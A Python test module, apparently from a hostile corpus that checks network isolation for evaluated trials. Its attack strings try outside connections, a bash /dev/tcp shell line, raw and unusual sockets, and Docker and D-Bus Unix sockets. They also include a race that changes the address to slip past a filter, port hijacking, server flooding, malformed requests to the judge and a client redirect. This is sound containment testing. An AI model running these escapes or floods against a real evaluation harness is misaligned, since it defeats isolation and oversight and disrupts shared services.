"""The network: nothing may be reached but the trial's own server, and nobody may be served."""

from tests.hostile.corpus.attack import Attack, attack, every_task


@attack("connect to the world (TEST-NET), to names, to other services of this machine")
def connections() -> Attack:
    return Attack(
        cell="""
def connect(family, address):
    with socket.socket(family) as one:
        one.settimeout(0.5)
        one.connect(address)
        return address

hosts = [("127.0.0.1", PORT), ("127.0.0.2", PORT), ("0.0.0.0", PORT), ("localhost", PORT), ("192.0.2.1", 80)]
for host in hosts:
    attempt(f"connect {host}", lambda: connect(socket.AF_INET, host))
for host in [("::1", PORT), ("::ffff:127.0.0.1", PORT), ("2001:db8::1", 80)]:
    attempt(f"connect {host}", lambda: connect(socket.AF_INET6, host))
attempt("ask DNS", lambda: socket.getaddrinfo("example.invalid", 80))
attempt("connect with curl", lambda: subprocess.run(["curl", "-m", "1", f"http://127.0.0.1:{PORT}"], check=True))
attempt("connect with bash", lambda: subprocess.run(["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{PORT}"], check=True))
"""
    )


@attack("send datagrams, raw packets and multicasts")
def datagrams() -> Attack:
    return Attack(
        cell="""
def send(family, kind, address, protocol=0):
    with socket.socket(family, kind, protocol) as one:
        one.settimeout(0.5)
        return one.sendto(TOKEN.encode(), address)

for host in ("127.0.0.1", "192.0.2.1", "224.0.0.1"):
    attempt(f"UDP to {host}", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, (host, PORT)))
attempt("UDP over IPv6", lambda: send(socket.AF_INET6, socket.SOCK_DGRAM, ("::1", PORT)))
attempt("UDP-Lite", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", PORT), 136))
attempt("ICMP", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0), 1))
attempt("raw", lambda: send(socket.AF_INET, socket.SOCK_RAW, ("127.0.0.1", 0), 255))
for name in ("AF_PACKET", "AF_VSOCK", "AF_ALG", "AF_BLUETOOTH", "AF_CAN"):
    family = getattr(socket, name, None)
    if family is not None:
        for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
            attempt(f"a socket of {name}", lambda: socket.socket(family, kind))

def fast_open():
    one = socket.socket()
    one.settimeout(0.5)
    return one.sendto(TOKEN.encode(), 0x20000000, ("127.0.0.1", PORT))
attempt("TCP fast open", fast_open)
def connected():
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    one.connect(("127.0.0.1", PORT))
    return one.send(TOKEN.encode())
attempt("UDP, connected", connected)
def message():
    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return one.sendmsg([TOKEN.encode()], [], 0, ("127.0.0.1", PORT))
attempt("UDP, sendmsg", message)
attempt("MPTCP", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262).connect(("127.0.0.1", PORT)) or 1)
attempt("SCTP", lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(("127.0.0.1", PORT)) or 1)
"""
    )


@attack("make sockets whose connections nobody guards once the address is exchanged: UDP, MPTCP, SCTP and others")
def unguarded_sockets() -> Attack:
    return Attack(
        cell="""
datagram, stream, sequence = socket.SOCK_DGRAM, socket.SOCK_STREAM, socket.SOCK_SEQPACKET
for kind, protocol in ((datagram, 0), (datagram, 136), (stream, 262), (stream, 132), (sequence, 132), (stream, 256)):
    for family in (socket.AF_INET, socket.AF_INET6):
        for flags in (0, socket.SOCK_CLOEXEC | socket.SOCK_NONBLOCK):
            attempt(f"{kind} {protocol}", lambda: socket.socket(family, kind | flags, protocol))
for family in (21, 30, 36, 40, 43, 44):  # RDS, TIPC, IEEE 802.15.4, VSOCK, SMC, XDP
    attempt(f"a socket of family {family}", lambda: socket.socket(family, stream))
"""
    )


@attack("slip past a filter of addresses by changing the address while it is looked at")
def exchanged_addresses() -> Attack:
    return Attack(
        cell="""
# One thread asks for a connection, another changes the address meanwhile.
good = struct.pack("<HHI8x", socket.AF_INET, socket.htons(PORT), 0x0100007F)
address = ctypes.create_string_buffer(16)
stop = False
def change():
    while not stop:
        for place in (b"\\x01\\x00", b"\\x02\\x00"):
            ctypes.memmove(address, place, 2)
            ctypes.memmove(ctypes.addressof(address) + 2, good[2:], 14)
threading.Thread(target=change, daemon=True).start()
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    for _ in range(1500):
        try:
            one = socket.socket(socket.AF_INET, kind)
        except OSError:
            break
        one.setblocking(False)
        libc.connect(one.fileno(), address, 16)
        try:
            peer = one.getpeername()
        except OSError:
            continue
        finally:
            one.close()
        if peer[1] == PORT:
            reached("connected in spite of the filter", peer)
            break
stop = True
"""
    )


@attack("serve others: bind and listen on ports, also on those of trials")
def services() -> Attack:
    return Attack(
        cell="""
def listen(address, family=socket.AF_INET, kind=socket.SOCK_STREAM):
    one = socket.socket(family, kind)
    one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    one.bind(address)
    if kind == socket.SOCK_STREAM:
        one.listen()
    return one.getsockname()

def unbound():
    one = socket.socket()
    one.listen()
    return one.getsockname()

attempt("listen", lambda: listen(("127.0.0.1", 0)))
attempt("listen to all", lambda: listen(("0.0.0.0", 0)))
attempt("listen without binding", unbound)
attempt("IPv6", lambda: listen(("::1", 0), socket.AF_INET6))
attempt("the neighbour's port", lambda: listen(("127.0.0.1", PORT)))
attempt("UDP", lambda: listen(("127.0.0.1", 0), kind=socket.SOCK_DGRAM))
""",
        answers={
            "ask": """
def ask(client, *args, **kwargs):
    port = client.base_url.port
    for number in (port, port - 1, port + 1):
        attempt(f"the trial's port {number}", lambda: listen(("127.0.0.1", number)))
    return "10"
"""
        },
    )


@attack("reach other processes over Unix sockets, with a name and without")
def unix_sockets() -> Attack:
    return Attack(
        cell="""
def connect(address, kind=socket.SOCK_STREAM):
    one = socket.socket(socket.AF_UNIX, kind)
    one.settimeout(0.5)
    one.connect(address)
    return address

paths = [SOCKET, "/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket",
         "/run/nscd/socket", "/tmp/.X11-unix/X0", "\\0" + TOKEN]
for path in filter(None, paths):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        attempt(f"connect {path!r}", lambda: connect(path, kind))
attempt("an abstract name of its own", lambda: socket.socket(socket.AF_UNIX).bind("\\0" + TOKEN + "-own") or None)
"""
    )


@attack("flood the trial's server: connections, headers, bodies, requests that never end")
def flooded_server() -> Attack:
    source = """
import json, socket, threading, time

def ANSWER(client=None, *args, **kwargs):
    port = client.base_url.port
    held = []
    for number in range(60):
        one = socket.create_connection(("127.0.0.1", port), timeout=2)
        try:
            one.sendall([b"POST / HTTP/1.1\\r\\nContent-Length: 1000000000\\r\\n\\r\\n", b"GET /", b"\\xff" * 1000,
                         b"POST /v1/chat/completions HTTP/1.1\\r\\nX: " + b"x" * 100_000,
                         b"POST /v1/chat/completions HTTP/1.1\\r\\nContent-Length: -5\\r\\n\\r\\n"][number % 5])
        except OSError:
            pass
        held.append(one)
    globals().setdefault("kept", []).extend(held)
    for body in (b"[" * 100_000, b'{"messages": 7}', b'{"messages": {"role": []}}', b"NaN", b'"' + b"x" * 10**7 + b'"',
                 b'{"messages": [{"role": "user", "content": ' + b"[" * 500 + b"]" * 500 + b"}]}", b"\\xff\\xfe"):
        try:
            one = socket.create_connection(("127.0.0.1", port), timeout=2)
            one.sendall(b"POST /v1/chat/completions HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(body) + body)
            one.recv(1000)
        except OSError:
            pass
    return "10"
"""
    return Attack(answers={**every_task(source), "cost": "cost = lambda *args: 10"})


@attack("send what the judge looks at in shapes that it does not expect")
def odd_requests() -> Attack:
    source = """
import itertools
odd = itertools.cycle([
    {"model": [], "messages": [7, None, [], "x"]}, {"messages": {"x": 1}}, {"messages": [{"role": {}, "content": {}}]},
    {"messages": [{"role": "system", "content": [7, {"text": {}}]}]}, {"messages": "x" * 10**6}, {"messages": [[]] * 10**5},
    {"model": float("nan"), "messages": [{"role": "\\ud800", "content": "\\ud800"}]}, [], 7, None, "x",
    {"messages": [{"role": "user", "content": "<script>alert(1)</script>"}]},
])

def ANSWER(client=None, *args, **kwargs):
    try:
        client._client.post(f"{client.base_url}chat/completions", json=next(odd), timeout=5)
    except Exception:
        pass
    return "10"
"""
    return Attack(answers={**every_task(source), "cost": "cost = lambda *args: 10"})


@attack("answer for the trial's server: redirect the client to a server of its own")
def redirected_client() -> Attack:
    return Attack(
        answers={
            "ask": """
def ask(client, question, instructions=""):
    for url in (f"http://127.0.0.1:{PORT}/v1", "http://192.0.2.1/v1", "http://localhost:11434/v1"):
        attempt(f"ask {url}", lambda: client.with_options(base_url=url, timeout=1, max_retries=0).models.list())
    return "10"
"""
        },
        cell="pass",
    )
